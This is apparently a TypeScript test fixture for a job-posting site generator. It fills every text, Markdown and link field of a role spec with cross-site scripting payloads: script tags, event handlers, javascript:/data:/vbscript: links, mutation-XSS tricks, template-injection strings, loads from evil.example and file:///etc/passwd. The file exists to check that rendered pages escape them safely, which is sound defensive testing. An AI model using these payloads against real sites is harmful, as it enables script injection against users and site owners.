/** A role spec and the settings that go with it. */
export interface HostileSite {
  readonly role: string;
  readonly settings: string;
}

/** Texts that try to be more than text, each in the way of one of the places that a page has. `alarm()` must never run. */
const hostileTexts: readonly string[] = [
  "<script>alarm()</script>",
  "</script><script>alarm()</script>",
  "</SCRIPT ><ScRiPt src=//evil.example/x.js></ScRiPt>",
  "<!--<script>alarm()</script>",
  "<!-- --!><script>alarm()</script>",
  "<![CDATA[<script>alarm()</script>]]>",
  "]]></loc><script>alarm()</script>",
  "<?php alarm() ?><script>alarm()</script>",
  '"><script>alarm()</script>',
  "'><script>alarm()</script>",
  '" onmouseover="alarm()" autofocus onfocus="alarm()" x="',
  "' onmouseover='alarm()' style='color:red",
  "` onmouseover=alarm() `",
  "\\u003cscript\\u003ealarm()\\u003c/script\\u003e",
  "&lt;script&gt;alarm()&lt;/script&gt;",
  "&#60;script&#62;alarm()&#60;/script&#62;",
  "<img src=x onerror=alarm()>",
  "<img src='javascript:alarm()' alt='a picture'>",
  "<image href=x onerror=alarm()>",
  "<picture><source srcset='https://evil.example/x.png'><img src='https://evil.example/y.png'></picture>",
  "<svg onload=alarm()><script>alarm()</script></svg>",
  "<svg><a xlink:href='javascript:alarm()'><text>press</text></a></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alarm()&gt;'>",
  "<math href='javascript:alarm()'>press</math>",
  "<iframe src='javascript:alarm()'></iframe><iframe srcdoc='<script>alarm()</script>'></iframe>",
  "<object data='javascript:alarm()'></object><embed src='javascript:alarm()'>",
  "<form action='javascript:alarm()'><button formaction='javascript:alarm()'>press</button></form>",
  "<input autofocus onfocus=alarm()><textarea autofocus onfocus=alarm()>x</textarea>",
  "<details open ontoggle=alarm()><summary>more</summary></details>",
  "<video src=x onerror=alarm()></video><audio src=x onerror=alarm()></audio>",
  "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example/x.png) }</style>",
  "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:alarm()'>",
  "<body onload=alarm()><html onclick=alarm()><h1>another title</h1>",
  "<a href='javascript:alarm()'>press</a>",
  "<a href='java&#10;script:alarm()'>press</a><a href=' &#1;javascript:alarm()'>press</a>",
  "<a href='data:text/html,<script>alarm()</script>'>press</a><a href='vbscript:alarm()'>press</a>",
  "<a id=content name=location href=#>one</a><p id=rolespec-facts>two</p><a href=x download ping=//evil.example>x</a>",
  "<div itemscope itemtype='https://schema.org/JobPosting'><b itemprop=title>another job</b></div>",
  "<template><script>alarm()</script></template><noscript><p title='</noscript><img src=x onerror=alarm()>'>",
  "<p style='position:fixed;inset:0' class='rolespec-button' onclick=alarm()>press</p>",
  "<div data-x='1'\u2028onclick=alarm()>\u2029x</div>",
  "a\u2028b\u2029c </script\u00a0>",
  "\u0000<scr\u0000ipt>alarm()</scr\u0000ipt>",
  "<% alarm() %><%= alarm() %><%~ alarm() %>",
  `{{ alarm() }} \${alarm()} #{alarm()}`,
  "<plaintext>",
  "<title></title><xmp><script>alarm()</script></xmp>",
];

/** Markdown that leads to addresses which no page may open. */
const hostileMarkdown: readonly string[] = [
  "[press](javascript:alarm())",
  "[press](JaVaScRiPt:alarm())",
  "[press](<java\tscript:alarm()>)",
  "[press](&#106;avascript:alarm())",
  "[press](data:text/html;base64,PHNjcmlwdD5hbGFybSgpPC9zY3JpcHQ+)",
  "[press](vbscript:alarm())",
  '[press](https://x.example "t\\" onmouseover=\\"alarm()")',
  '[press](https://x.example/"onmouseover="alarm())',
  "![picture](javascript:alarm())",
  "![picture](https://evil.example/x.png)",
  '![" onerror="alarm()](x.png)',
  "![picture](data:image/svg+xml,<svg/onload=alarm()>)",
  "[press][away]\n\n[away]: javascript:alarm()",
  "![picture][away]\n\n[away]: https://evil.example/x.png",
  "<javascript:alarm()>",
  "<data:text/html,alarm()>",
  "javascript:alarm()",
  "`</script><script>alarm()</script>`",
  "```html\n</script><script>alarm()</script>\n```",
  '```"onclick="alarm()\ncode\n```',
  'Note[^x"onclick=alarm()].\n\n[^x"onclick=alarm()]: <script>alarm()</script>',
  "# <script>alarm()</script>\n\n# Another title",
  "| <script>alarm()</script> | <img src=x onerror=alarm()> |\n| --- | --- |\n| [press](javascript:alarm()) | ![x](javascript:alarm()) |",
];

/** Addresses that no field may publish as a link. */
const hostileAddresses: readonly string[] = [
  "javascript:alarm()",
  "JAVASCRIPT:alarm()",
  " javascript:alarm()",
  "java\nscript:alarm()",
  "data:text/html,<script>alarm()</script>",
  "vbscript:alarm()",
  'https://x.example/"onmouseover="alarm()',
  "https://x.example/'><script>alarm()</script>",
  "//evil.example/",
  "mailto:a@b.example?body=<script>alarm()</script>",
  'a"onclick="alarm()"@b.example',
  "file:///etc/passwd",
  "blob:https://evil.example/x",
];

/** Every hostile site, by what is hostile in it. */
export const hostileSites: readonly (readonly [string, HostileSite])[] = [
  ...hostileTexts.map((text) => [`the text ${text}`, hostileSite(text)] as const),
  ...hostileMarkdown.map((markdown) => [`the Markdown ${markdown}`, hostileBodySite(markdown)] as const),
  ...hostileAddresses.map((address) => [`a role's address ${address}`, hostileAddressRole(address)] as const),
  ...hostileAddresses.map((address) => [`the settings' address ${address}`, hostileAddressSettings(address)] as const),
];

/** A role and its settings with one hostile text in every place that takes words. */
function hostileSite(text: string): HostileSite {
  const quoted = JSON.stringify(text);
  const line = text.replaceAll(/\s+/g, " ");
  return {
    settings: [
      `site: { title: ${quoted}, language: ${quoted}, url: https://careers.acme.example }`,
      `employer: { name: ${quoted}, url: https://acme.example, about: ${quoted} }`,
    ].join("\n"),
    role: `---
title: ${quoted}
id: ${quoted}
slug: ${quoted}
language: ${quoted}
department: ${quoted}
team: ${quoted}
posted: 2026-11-02
locations: [{ city: ${quoted}, street: ${quoted}, postcode: ${quoted}, country: NO }]
hours: ${quoted}
pay: { min: 10, max: 20, currency: NOK, per: hour, note: ${quoted} }
other-pay: ${quoted}
benefits: [${quoted}]
apply: { email: jobs@acme.example, note: ${quoted} }
---

Before ${line} after

- ${line}

## ${line}

| Column | ${line.replaceAll("|", "\\|")} |
| --- | --- |
| ${line.replaceAll("|", "\\|")} | cell |

![${line}](picture.png) [${line}](https://x.example)

> ${line}

${text}

Last words.
`,
  };
}

/** A role that leads to one hostile address from every field that takes one. */
function hostileAddressRole(address: string): HostileSite {
  const quoted = JSON.stringify(address);
  return {
    settings: "site: { title: Careers, url: https://careers.acme.example }\nemployer: { name: Acme }",
    role: `---
title: Nurse
employer: { name: Acme, url: ${quoted}, logo: ${quoted} }
posted: 2026-11-02
locations: Oslo, NO
apply: { url: ${quoted}, email: ${quoted} }
---

You care for children.
`,
  };
}

/** Settings with a hostile address in every field that takes one. */
function hostileAddressSettings(address: string): HostileSite {
  const quoted = JSON.stringify(address);
  return {
    settings: `site: { title: Careers, url: ${quoted} }\nemployer: { name: Acme, url: ${quoted}, logo: ${quoted} }`,
    role: "---\ntitle: Nurse\nemployer: Acme\nposted: 2026-11-02\nlocations: Oslo, NO\n---\n\nYou care for children.\n",
  };
}

/** A role whose body is a piece of hostile Markdown. */
function hostileBodySite(markdown: string): HostileSite {
  return {
    settings: "site: { title: Careers, url: https://careers.acme.example }\nemployer: { name: Acme }",
    role: `---\ntitle: Nurse\nposted: 2026-11-02\nlocations: Oslo, NO\n---\n\n${markdown}\n\nLast words.\n`,
  };
}
